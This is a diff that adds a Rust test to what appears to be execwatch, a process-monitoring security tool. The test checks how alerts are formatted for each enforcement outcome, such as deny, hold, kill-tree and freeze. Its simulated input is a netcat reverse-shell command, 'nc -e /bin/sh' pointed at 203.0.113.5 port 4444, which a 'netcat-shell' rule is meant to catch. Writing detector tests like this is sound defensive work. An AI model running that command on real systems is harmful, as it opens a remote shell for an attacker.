@@ -27,6 +27,8 @@ use execwatch::process::file::FileFacts;
 use execwatch::process::names::{Accounts, Names};
 use execwatch::process::place::Place;
 use execwatch::process::relatives::{Ancestors, Learnt, Processes, Relative};
+use execwatch::response::{Guard, Outcome, Response, RuleName};
+use execwatch::rules::action::Action;
 use execwatch::rules::load::{Places, load};
 use execwatch::rules::model::Severity;
 use execwatch::rules::ruleset::RuleSet;
@@ -325,6 +327,40 @@ fn forms_of_an_alert() {
             .alert
             .unwrap_or_else(|| panic!("no rule matches {name}"));
         forms(name, &Record::Alert(Box::new(alert)))
+    }));
+}
+
+/// Everything that can come of an action, each in one of the forms' files.
+#[test]
+fn forms_of_responses() {
+    let surroundings = Surroundings {
+        accounts: Accounts { users: Names::new(folder().join("passwd")), groups: Names::new("/dev/null") },
+        namespaces: HOST_NAMESPACES,
+        processes: Box::new(Told),
+        files: Arc::default(),
+    };
+    let mut evaluator = Evaluator::new(Arc::new(rules()));
+    let cases = [
+        ("prevented", Action::Deny, Outcome::Prevented),
+        ("held", Action::Hold, Outcome::Held),
+        ("killed", Action::Deny, Outcome::Killed { after_us: 321 }),
+        ("stopped", Action::Hold, Outcome::Stopped { after_us: 321 }),
+        ("tree", Action::KillTree, Outcome::TreeKilled { processes: 5, spared: 1, after_us: 4321 }),
+        ("frozen", Action::Freeze, Outcome::Frozen { after_us: 4321 }),
+        ("gone", Action::Deny, Outcome::Gone),
+        ("refused", Action::Deny, Outcome::Refused(Guard::PackageManager)),
+        ("dry-run", Action::Deny, Outcome::DryRun),
+        ("failed", Action::Freeze, Outcome::Failed(libc::EBUSY)),
+    ];
+    all_equal(cases.into_iter().flat_map(|(name, action, outcome)| {
+        let mut exec = far_away();
+        exec.image = image("/usr/bin/nc.traditional", &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]);
+        exec.certainty = Certainty::Exact;
+        // One rule acted, and another is more severe.
+        let rule = RuleName::new(if name == "tree" { "another-rule" } else { "netcat-shell" });
+        exec.response = Some(Response { action, rule, outcome });
+        let alert = evaluator.evaluate(&exec, &surroundings, &Started2026).alert.unwrap();
+        forms(&format!("response-{name}"), &Record::Alert(Box::new(alert)))
     }));
 }
 
